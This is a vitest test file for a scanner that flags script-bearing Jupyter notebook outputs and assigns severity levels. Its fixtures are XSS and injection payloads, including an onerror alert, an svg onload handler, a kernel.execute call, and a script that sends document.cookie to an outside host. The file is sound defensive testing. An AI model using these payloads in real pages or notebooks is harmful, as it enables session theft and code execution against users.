import { expect, test } from "vitest";
import { onOutput, outputCases } from "../../testing/notebook-cases.ts";
import { notebookOutputScript } from "./notebook-output-script.ts";

const html = (text: string): { readonly "text/html": string } => ({ "text/html": text });

outputCases(notebookOutputScript, {
  found: [
    html("<script src='https://a.riverbank.io/x.js'></script>"),
    html("<img src=x onerror=alert(1)>"),
    html("<iframe src='https://a.riverbank.io/'></iframe>"),
    { "image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload='f()'></svg>" },
    { "application/javascript": ["IPython.notebook.kernel.execute('x = 1')"] },
  ],
  clean: [
    html("<table border='1' class='dataframe'><tr><td>&lt;script&gt;</td></tr></table>"),
    html("<style scoped>.dataframe tbody tr th { vertical-align: top; }</style>"),
    { "text/plain": "<script>alert(1)</script>" },
    { "image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0'/></svg>" },
    "<img src=x onerror=alert(1)>",
  ],
});

test.each<readonly [output: string, severity: string, audience: string]>([
  ["<script>Jupyter.notebook.kernel.execute('x')</script>", "high", "default"],
  ["<script>fetch('https://a.riverbank.io/' + document.cookie)</script>", "medium", "default"],
  ["<script src='https://cdn.plot.ly/plotly-latest.min.js'></script>", "info", "audit"],
  ["<script src='https://cdn.plot.ly.riverbank.io/x.js'></script>", "medium", "default"],
  ["<iframe src='https://www.youtube.com/embed/x'></iframe>", "info", "audit"],
  ["<iframe src='https://a.riverbank.io'></iframe>", "low", "pedantic"],
  ["<script>google.colab.kernel.invokeFunction('x')</script>", "info", "audit"],
  ["<button onclick=\"convertToInteractive('df-1')\">", "info", "audit"],
])("%s is %s for %s", (output, severity, audience) => {
  const { meta } = notebookOutputScript;
  const dials = onOutput(notebookOutputScript, html(output)).map(({ details }) => [
    details.severity ?? meta.severity,
    details.audience ?? meta.audience,
  ]);
  expect(dials).toContainEqual([severity, audience]);
  if (audience !== "default") expect(dials.map(([, reader]) => reader)).not.toContain("default");
});
